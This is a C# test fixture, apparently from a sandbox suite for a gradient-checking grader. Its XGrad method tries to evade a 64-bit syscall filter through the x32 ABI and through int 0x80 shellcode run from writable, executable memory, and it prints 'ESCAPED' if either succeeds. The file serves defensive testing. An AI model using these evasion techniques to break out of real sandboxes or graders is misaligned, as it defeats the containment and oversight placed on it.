// attack: makes system calls by the numbers of 32-bit programs, which a filter of 64-bit ones does not see
// policy on: rejected GC105 GC107
// policy off: crashed
// says: XGrad at N=1, K=1: the process died during the call: it made a system call that no program of this machine makes (SIGSYS).
using System.Runtime.InteropServices;
using GradCheck.Fixtures;
using MathNet.Numerics.LinearAlgebra;

public class Mine : ISquare
{
    private delegate nint Call();

    [DllImport("libc")]
    private static extern nint syscall(nint number);

    [DllImport("libc", SetLastError = true)]
    private static extern nint mmap(nint address, nint length, int protection, int flags, int file, nint offset);

    public Matrix<double> XGrad(Matrix<double> yGrad, Matrix<double> x)
    {
        if (RuntimeInformation.ProcessArchitecture != Architecture.X64)
            return x;
        // x32: the same call by another number. getpid.
        if (syscall(0x40000000 | 39) > 0)
            Console.WriteLine("ESCAPED: by x32");
        // mov eax, 20; int 0x80; ret: getpid, of 32 bits.
        byte[] code = [0xB8, 0x14, 0x00, 0x00, 0x00, 0xCD, 0x80, 0xC3];
        nint page = mmap(0, 4096, 7, 0x22, -1, 0);
        Marshal.Copy(code, 0, page, code.Length);
        if ((int)Marshal.GetDelegateForFunctionPointer<Call>(page)() > 0)
            Console.WriteLine("ESCAPED: by int 0x80");
        return x;
    }
}
